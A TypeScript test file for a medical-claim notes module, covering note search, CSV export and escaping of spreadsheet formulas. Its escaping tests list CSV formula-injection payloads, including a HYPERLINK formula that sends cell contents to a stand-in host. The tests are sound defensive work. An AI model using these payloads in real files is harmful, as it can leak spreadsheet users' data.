import 'fake-indexeddb/auto';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { ClaimLensDb } from '../db';
import {
  addNote,
  matchesClaimQuery,
  type NoteRecord,
  notesCsvBlob,
  notesForClaim,
  notesToCsv,
  searchNotes,
} from './history';

let db: ClaimLensDb;
beforeEach(async () => {
  db = new ClaimLensDb(`history-${Math.random()}`);
  await db.open();
});
afterEach(async () => {
  await db.delete();
});

const note = (claimNumber: string, createdAt: string, text = 'n') => ({
  claimNumber,
  portal: 'availity',
  kind: 'claim-status',
  text,
  createdAt,
});

test('notes are found by the start of the claim number, however it is typed, newest first', async () => {
  await addNote(db, note('7000-000-001', '2026-11-01T10:00:00Z', 'first'));
  await addNote(db, note('7000000001', '2026-11-03T10:00:00Z', 'third'));
  await addNote(db, note('7000000002', '2026-11-02T10:00:00Z', 'other claim'));
  await addNote(db, note('8000000001', '2026-11-04T10:00:00Z', 'elsewhere'));

  expect((await searchNotes(db, '7000 000 001')).map((n) => n.text)).toEqual(['third', 'first']);
  expect((await searchNotes(db, '7000-000')).map((n) => n.text)).toEqual(['third', 'other claim', 'first']);
  expect((await searchNotes(db, '')).map((n) => n.text)).toEqual([
    'elsewhere',
    'third',
    'other claim',
    'first',
  ]);
  expect(await searchNotes(db, '9')).toEqual([]);
  expect((await searchNotes(db, '', 2)).length).toBe(2);
});

test('a claim history lists only that claim, newest first', async () => {
  await addNote(db, note('A1-23', '2026-11-01T10:00:00Z', 'old'));
  await addNote(db, note('a123', '2026-11-05T10:00:00Z', 'new'));
  await addNote(db, note('A1234', '2026-11-06T10:00:00Z', 'longer number'));
  expect((await notesForClaim(db, 'A123')).map((n) => n.text)).toEqual(['new', 'old']);
  expect(await notesForClaim(db, ' - ')).toEqual([]);
});

test('matchesClaimQuery uses the same rule as the search', () => {
  expect(matchesClaimQuery({ claimNumber: '7000-000-001' }, '7000000')).toBe(true);
  expect(matchesClaimQuery({ claimNumber: '7000-000-001' }, '000')).toBe(false);
});

test('CSV has the documented columns and survives commas, quotes and line breaks', () => {
  const notes: NoteRecord[] = [
    {
      ...note('7000000001', '2026-11-27T10:00:00Z', 'denied CO-97, "bundled"\nNext: XS'),
      claimKey: '7000000001',
    },
  ];
  const csv = notesToCsv(notes);
  expect(csv.split('\r\n')[0]).toBe('created_at,claim_number,portal,kind,note');
  expect(csv).toContain('"denied CO-97, ""bundled""\nNext: XS"');
  const back = Papa.parse<string[]>(csv, { newline: '\r\n' }).data;
  expect(back[1]).toEqual([
    '2026-11-27T10:00:00Z',
    '7000000001',
    'availity',
    'claim-status',
    'denied CO-97, "bundled"\nNext: XS',
  ]);
});

test('a note that looks like a formula is not run by a spreadsheet', () => {
  const csv = notesToCsv([{ ...note('1', '2026-11-27T10:00:00Z', '=HYPERLINK("x")'), claimKey: '1' }]);
  expect(csv).toContain(`"'=HYPERLINK(""x"")"`);
});

test('no notes: just the header', () => {
  expect(notesToCsv([])).toBe('created_at,claim_number,portal,kind,note\r\n');
});

test('the download opens in Excel as UTF-8 (byte-order mark) with the em dash intact', async () => {
  const blob = notesCsvBlob([{ ...note('1', '2026-11-27T10:00:00Z', 'paid — JD'), claimKey: '1' }]);
  const bytes = new Uint8Array(await blob.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(new TextDecoder().decode(bytes)).toContain('paid — JD');
  expect(blob.type).toBe('text/csv;charset=utf-8');
});

test('every cell that starts like a formula is escaped, whatever follows it (line breaks included)', () => {
  // papaparse's own escapeFormulae pattern (^[=+\-@\t\r].*$) misses a cell with a line break in it.
  const attacks = [
    '=HYPERLINK("https://x.example/?d="&A1,"Open")\n',
    '+1+1\r\nmore',
    '-2+3\nx',
    '@SUM(A1)\n',
    '\t=1+1',
    '\r=1+1',
    '\uFF1D1+1', // full-width =
    '\uFF0B1\n',
    '\uFF0D1\n',
    '\uFF20SUM(A1)\n',
    ' =1+1\n', // a leading space is trimmed by some importers
  ];
  const rows = attacks.map((a, i) => ({ ...note(a, '2026-11-27T10:00:00Z', a), claimKey: String(i) }));
  const cells = Papa.parse<string[]>(notesToCsv(rows), { newline: '\r\n', delimiter: ',' }).data.slice(1, -1);
  expect(cells.length).toBe(attacks.length);
  for (const [i, row] of cells.entries()) {
    // Claim number and note: both shown as text, with nothing dropped from the biller's note.
    expect(row[1]).toBe(`'${attacks[i]}`);
    expect(row[4]).toBe(`'${attacks[i]}`);
  }
});

test('fuzz: no cell of the CSV, read back, can start a formula, and no text is lost', () => {
  const risky = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    ' ',
    '"',
    ',',
    '\uFF1D',
    '\uFF0B',
    'a',
    '1',
  );
  const cell = fc.oneof(
    fc.string({ maxLength: 30 }),
    fc.array(risky, { maxLength: 12 }).map((a) => a.join('')),
  );
  const runs = fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 5 });
  fc.assert(
    fc.property(runs, (pairs) => {
      const rows = pairs.map(([claim, text], i) => ({
        ...note(claim, '2026-11-27T10:00:00Z', text),
        claimKey: String(i),
      }));
      const back = Papa.parse<string[]>(notesToCsv(rows), { newline: '\r\n', delimiter: ',' }).data.slice(
        1,
        -1,
      );
      for (const [i, row] of back.entries()) {
        const cells: [string, string][] = [
          [row[1] ?? '', pairs[i]?.[0] ?? ''],
          [row[4] ?? '', pairs[i]?.[1] ?? ''],
        ];
        for (const [value, original] of cells) {
          expect(/^[\t\r\n]|^[\s\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(value)).toBe(false);
          expect(value === original || value === `'${original}`).toBe(true);
        }
      }
    }),
    { seed: 20261212, numRuns: 2000 },
  );
});
